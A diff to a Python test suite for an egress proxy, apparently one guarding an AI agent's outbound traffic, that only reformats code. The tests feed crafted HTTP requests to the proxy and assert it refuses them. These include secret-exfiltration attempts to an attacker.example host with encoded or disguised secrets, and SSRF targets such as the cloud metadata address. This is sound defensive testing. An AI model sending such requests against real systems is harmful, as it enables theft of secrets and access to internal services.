@@ -143,8 +143,10 @@ def test_requests_that_could_be_read_in_two_ways_go_nowhere(stage: EgressStage, 
         (b"GET /who?k=OSTIARY:api HTTP/1.1\r\n" + host + b"\r\n", "foreign_place"),
         (b"GET /who HTTP/1.1\r\n" + host + b"X: OSTIARY:none\r\n\r\n", "foreign_placeholder"),
         (b"GET /who HTTP/1.1\r\n" + host + b"X: OSTIARY:api\r\n\r\n", "foreign_place"),
-        (b"POST /who HTTP/1.1\r\n" + host + b"Authorization: OSTIARY:api\r\nContent-Length: 11\r\n\r\nOSTIARY:api",
-         "foreign_place"),
+        (
+            b"POST /who HTTP/1.1\r\n" + host + b"Authorization: OSTIARY:api\r\nContent-Length: 11\r\n\r\nOSTIARY:api",
+            "foreign_place",
+        ),
         (b"GET /%4fSTIARY:api HTTP/1.1\r\n" + host + b"\r\n", "placeholder_in_path"),
         (b"GET /100% HTTP/1.1\r\n" + host + b"\r\n", "invalid_path"),
         (b"GET /" + b"x" * MAX_PATH + b" HTTP/1.1\r\n" + host + b"\r\n", "path_too_long"),
@@ -152,7 +154,7 @@ def test_requests_that_could_be_read_in_two_ways_go_nowhere(stage: EgressStage, 
         (b"GET /who HTTP/1.1\r\n" + host + b"X: " + base64.b64encode(VALUE.encode()) + b"\r\n\r\n", "secret_sent"),
         (b"GET /who HTTP/1.1\r\n" + host + b"X-" + HEX.encode() + b": 1\r\n\r\n", "secret_sent"),
         (b"GET /who?x=s%6b" + VALUE[2:].encode() + b" HTTP/1.1\r\n" + host + b"\r\n", "secret_sent"),
-    ):  # fmt: skip
+    ):
         assert refusal(stage.raw(sent))[1] == expected, sent
     late = b"POST /who HTTP/1.1\r\n" + host + chunked + b"\r\n8\r\nOSTIARY:\r\n4\r\nnone\r\n0\r\n\r\n"
     assert b"foreign_placeholder" in stage.raw(late)
@@ -198,11 +200,14 @@ def test_a_tunnel_leads_to_open_ports_and_public_addresses_with_the_password_of_
         plain = f"GET http://{leak}.attacker.example/ HTTP/1.1\r\nHost: {leak}.attacker.example\r\n{password}\r\n"
         assert refusal(stage.raw(plain.encode(), tls=False)) == (403, "secret_sent")
     for target, expected in (
-        ("http://127.0.0.1/", (403, "private_address")), ("http://169.254.169.254/latest", (403, "private_address")),
-        ("http://[::ffff:10.0.0.1]/", (403, "private_address")), ("http://[::1]:8080/", (403, "port_closed")),
-        (f"https://localhost:{stage.api.port}/who", (400, "malformed")), ("/who", (400, "malformed")),
+        ("http://127.0.0.1/", (403, "private_address")),
+        ("http://169.254.169.254/latest", (403, "private_address")),
+        ("http://[::ffff:10.0.0.1]/", (403, "private_address")),
+        ("http://[::1]:8080/", (403, "port_closed")),
+        (f"https://localhost:{stage.api.port}/who", (400, "malformed")),
+        ("/who", (400, "malformed")),
         ("ftp://127.0.0.1/", (400, "malformed")),
-    ):  # fmt: skip
+    ):
         host = target.partition("://")[2].partition("/")[0] or "a.example"
         sent = f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{password}\r\n".encode()
         assert refusal(stage.raw(sent, tls=False)) == expected, target
@@ -224,10 +229,17 @@ def test_a_secret_goes_to_the_key_of_the_proxy_of_this_agent_alone(stage: Egress
     other, key = stage.live_server.agent()
     uri = f"http://localhost/egress/{other}"
     _, guard = stage.live_server.resource(uri, [])
-    foreign = Gate(Plan(
-        server="egress", agent=str(key), guard=str(guard), uri=uri, spool=str(key.with_suffix(".spool")),
-        mode=str(key.with_suffix(".mode")), url=stage.live_server.server.url,
-    ))  # fmt: skip
+    foreign = Gate(
+        Plan(
+            server="egress",
+            agent=str(key),
+            guard=str(guard),
+            uri=uri,
+            spool=str(key.with_suffix(".spool")),
+            mode=str(key.with_suffix(".mode")),
+            url=stage.live_server.server.url,
+        )
+    )
     foreign.start()
     try:
         host = f"localhost:{stage.api.port}"
